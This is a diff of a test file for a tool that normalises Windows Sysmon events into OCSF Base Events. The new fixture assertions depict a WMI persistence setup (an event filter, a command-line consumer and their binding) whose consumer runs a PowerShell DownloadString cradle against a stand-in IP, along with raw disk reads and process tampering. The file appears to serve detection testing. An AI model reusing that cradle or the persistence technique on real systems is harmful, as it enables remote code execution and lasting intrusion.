@@ -1152,13 +1152,88 @@ describe("WINDOWS_SYSMON", () => {
         granted_access: "0x1010",
       },
     });
-    // Any other event is kept as a Base Event.
-    expect(by(4)[0]).toMatchObject({
-      class_uid: 0,
-      activity_id: 99,
-      status: "Unknown",
-      message: "Sysmon event 4 on WS-7.corp.contoso.com",
+  });
+
+  it("keeps the events OCSF has no class for (state, raw reads, WMI, clipboard, tampering, errors) as Base Events with their fields and a message", () => {
+    const kept = (id: number) =>
+      by(id).map((e) => ({
+        class_uid: e.class_uid,
+        activity_id: e.activity_id,
+        status: e.status,
+        actor_user: e.actor_user,
+        message: e.message,
+      }));
+    const other = { class_uid: 0, activity_id: 99, status: "Unknown" };
+    const svcSql = { ...other, actor_user: "CORP\\svc-sql" };
+    expect([4, 16, 255].flatMap(kept)).toEqual([
+      { ...other, actor_user: null, message: "Sysmon service state Started on WS-7.corp.contoso.com" },
+      { ...other, actor_user: null, message: "Sysmon service state Stopped on SRV-APP-03.corp.contoso.com" },
+      {
+        ...other,
+        actor_user: null,
+        message:
+          "Sysmon configuration C:\\ProgramData\\sysmon\\sysmonconfig.xml loaded on WS-7.corp.contoso.com",
+      },
+      {
+        ...other,
+        status: "Failure",
+        actor_user: null,
+        message:
+          "Sysmon error DriverCommunication on SRV-APP-03.corp.contoso.com: Failed to connect to the driver to update configuration - Last error: Access is denied.",
+      },
+    ]);
+    // A WMI persistence: an event filter, a command-line consumer and the binding of the two (19, 20, 21).
+    expect([19, 20, 21].flatMap(kept)).toEqual([
+      {
+        ...svcSql,
+        message:
+          'WMI event filter "SCM Updater Filter" created by CORP\\svc-sql on SRV-APP-03.corp.contoso.com',
+      },
+      {
+        ...svcSql,
+        message:
+          'WMI event consumer "SCM Updater Consumer" (Command Line) created by CORP\\svc-sql on SRV-APP-03.corp.contoso.com',
+      },
+      {
+        ...svcSql,
+        message:
+          'WMI binding of "CommandLineEventConsumer.Name=\\"SCM Updater Consumer\\"" to "__EventFilter.Name=\\"SCM Updater Filter\\"" created by CORP\\svc-sql on SRV-APP-03.corp.contoso.com',
+      },
+    ]);
+    expect(by(20)[0].attributes.event_data).toMatchObject({
+      EventType: "WmiConsumerEvent",
+      Operation: "Created",
+      Type: "Command Line",
+      Destination: expect.stringContaining(".DownloadString('http://198.51.100.23/u.ps1')"),
     });
+    expect(by(19)[0].attributes.event_data).toMatchObject({
+      EventNamespace: '"root\\\\cimv2"',
+      Query: expect.stringContaining("Win32_PerfFormattedData_PerfOS_System"),
+    });
+    expect([9, 24, 25].flatMap(kept)).toEqual([
+      {
+        ...svcSql,
+        message:
+          "powershell.exe on SRV-APP-03.corp.contoso.com read the raw device \\Device\\HarddiskVolume2",
+      },
+      {
+        ...svcSql,
+        message:
+          "Clipboard changed in rdpclip.exe on vm-jump-01.corp.contoso.com (user: CORP\\svc-sql ip: 10.20.30.15 hostname: SRV-APP-03)",
+      },
+      {
+        ...other,
+        actor_user: "CORP\\adele.vance",
+        message: "Process tampering in dllhost.exe on WS-7.corp.contoso.com: Image is replaced",
+      },
+    ]);
+    // The process these name is the event's process, as for the mapped events.
+    expect(by(25)[0].attributes).toMatchObject({
+      process: { name: "dllhost.exe", pid: 7788, account: "CORP\\adele.vance" },
+      event_data: { Type: "Image is replaced" },
+    });
+    expect(by(24)[0].attributes.event_data).toMatchObject({ Session: "2", Archived: "true" });
+    expect(by(9)[0].attributes.event_data).toMatchObject({ Device: "\\Device\\HarddiskVolume2" });
   });
 
   it("gives the threat-intelligence matcher the hashes (not the imphash), domains and addresses", () => {
